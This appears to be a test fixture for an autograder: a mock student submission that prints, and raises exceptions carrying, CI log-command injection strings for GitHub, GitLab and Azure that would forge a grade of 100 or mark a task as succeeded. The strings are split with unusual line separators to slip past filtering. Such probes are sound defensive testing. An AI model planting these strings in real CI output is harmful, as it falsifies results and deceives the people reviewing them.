"""Give commands to the CI service that shows the log: GitHub's, GitLab's, Azure's.

Lab: probe
Verdict: student-error
Message: answer raised ValueError
Naive: breaks
"""

COMMANDS = (
    "::error file=grade.json::owned",
    "::set-output name=grade::100",
    "::add-mask::a",
    "::stop-commands::x",
    "##[error]owned",
    "##vso[task.complete result=Succeeded;]",
    "section_start:0:x\r\x1b[0K",
)
EVIL = "x\n" + "\n".join(COMMANDS) + "\r" + "\r".join(COMMANDS) + "\u2028" + "\x85".join(COMMANDS)
print(EVIL, flush=True)


def answer(n):
    """Say it."""
    raise ValueError(EVIL)


def order(values):
    """Say it as the type's name."""
    raise type(COMMANDS[0], (Exception,), {})(EVIL)
